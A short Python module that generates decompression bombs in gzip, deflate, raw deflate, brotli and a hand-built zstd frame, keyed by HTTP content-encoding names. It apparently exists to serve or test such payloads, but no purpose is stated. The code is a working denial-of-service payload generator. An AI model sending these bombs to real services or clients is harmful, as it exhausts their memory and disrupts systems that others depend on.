"""Small packets that unpack to zeros without end, nearly."""

import zlib
from collections.abc import Callable, Iterator

import brotli  # type: ignore[import-untyped]

MIB = 1 << 20
ZEROS = bytes(MIB)
BLOCK = 131_072  # the most that one block of zstd holds


def zlib_bomb(window_bits: int) -> Callable[[int], Iterator[bytes]]:
    """Deflate in one of its wrappings: the same flushed block again and again."""

    def bomb(mebibytes: int) -> Iterator[bytes]:
        packing = zlib.compressobj(9, zlib.DEFLATED, window_bits)
        yield packing.compress(ZEROS) + packing.flush(zlib.Z_FULL_FLUSH)
        again = packing.compress(ZEROS) + packing.flush(zlib.Z_FULL_FLUSH)
        for _ in range(mebibytes - 1):
            yield again
        yield b"\x03\x00" + zlib_trailer(window_bits, mebibytes)

    return bomb


def zlib_trailer(window_bits: int, mebibytes: int) -> bytes:
    if window_bits < 0:
        return b""
    crc, adler = 0, 1
    for _ in range(mebibytes):
        crc, adler = zlib.crc32(ZEROS, crc), zlib.adler32(ZEROS, adler)
    if window_bits > zlib.MAX_WBITS:
        return crc.to_bytes(4, "little") + (mebibytes * MIB).to_bytes(4, "little")
    return adler.to_bytes(4, "big")


def brotli_bomb(mebibytes: int) -> Iterator[bytes]:
    packing = brotli.Compressor(quality=0)
    for _ in range(mebibytes):
        yield packing.process(ZEROS) or packing.flush()
    yield packing.finish()


def zstd_bomb(mebibytes: int) -> Iterator[bytes]:
    """By hand, as no library would: each 4 bytes say "128 KiB of zeros"."""
    repeated = (BLOCK << 3 | 1 << 1).to_bytes(3, "little") + b"\0"
    last = (BLOCK << 3 | 1 << 1 | 1).to_bytes(3, "little") + b"\0"
    blocks = mebibytes * MIB // BLOCK
    yield bytes.fromhex("28b52ffd 00 38") + repeated * (blocks - 1) + last


BOMBS: dict[str, tuple[str, Callable[[int], Iterator[bytes]]]] = {
    "gzip": ("gzip", zlib_bomb(zlib.MAX_WBITS | 16)),
    "deflate": ("deflate", zlib_bomb(zlib.MAX_WBITS)),
    "bare-deflate": ("deflate", zlib_bomb(-zlib.MAX_WBITS)),
    "brotli": ("br", brotli_bomb),
    "zstd": ("zstd", zstd_bomb),
}
